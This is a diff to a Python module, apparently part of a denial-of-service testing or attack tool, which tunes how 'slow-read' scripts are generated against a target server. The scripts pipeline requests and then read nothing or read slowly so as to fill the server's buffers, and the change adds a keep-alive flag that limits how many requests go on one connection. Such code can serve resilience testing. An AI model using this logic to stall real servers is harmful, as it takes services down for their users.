@@ -68,13 +68,14 @@ _BODY = 1_000_000
 
 @dataclass(frozen=True)
 class Facts:
-    """What is known of a target before it is attacked. `size`: bytes of its usual response. `rates`: bytes per second
-    to go on with; none for the usual ones."""
+    """What is known of a target before it is attacked. `size`: bytes of its usual response. `keeps_alive`: it answers
+    several requests on a connection. `rates`: bytes per second to go on with; none for the usual ones."""
 
     target: Target
     size: int
     websocket: bool
     limit: float
+    keeps_alive: bool = True
     rates: tuple[float, ...] = ()
 
 
@@ -168,10 +169,11 @@ def _short(target: Target) -> bytes:
 
 
 def _slow_read(facts: Facts) -> Iterator[Script]:
-    """Ask for more than buffers hold, and read nothing, or slowly."""
+    """Ask for more than buffers hold, and read nothing, or slowly. A server that closes answers one request only."""
     short = _short(facts.target)
     request = short + b"\r\n"
-    number = min(math.ceil(FILLING / facts.size), PIPELINE // len(request)) + 1
+    most = _REQUESTS if facts.keeps_alive else 1
+    number = min(math.ceil(FILLING / facts.size) + 1, PIPELINE // len(request) + 1, most)
     start = Script("slow-read", "stalled", opening=request * number, gulp=0, interval=POKE)
     yield start
     poke = replace(start, role="poked", opening=start.opening + short + b"X-Slow: ", piece=b"a", cap=PIPELINE * 2)
@@ -183,14 +185,15 @@ def _slow_read(facts: Facts) -> Iterator[Script]:
         moment *= _ONCE_NEXT
     for rate in facts.rates or READ_RATES:
         number = math.ceil((FILLING + rate * facts.limit * 1.1) / facts.size)
-        if number <= _REQUESTS and number * len(request) <= _LONG_PIPELINE:
+        if number <= most and number * len(request) <= _LONG_PIPELINE:
             gulp = replace(poke, role="dripped", opening=request * number + short + b"X-Slow: ", interval=GULP)
             yield replace(gulp, gulp=round(rate * GULP), rate=rate, cap=2 * _LONG_PIPELINE)
 
 
 def fills(facts: Facts) -> bool:
-    """Tell if enough can be asked for to fill a server's buffers."""
-    return PIPELINE // (len(_short(facts.target)) + 2) * facts.size >= FILLING
+    """Tell if enough can be asked for on one connection to fill a server's buffers."""
+    requests = PIPELINE // (len(_short(facts.target)) + 2) if facts.keeps_alive else 1
+    return requests * facts.size >= FILLING
 
 
 def _idle(facts: Facts) -> Iterable[Script]:
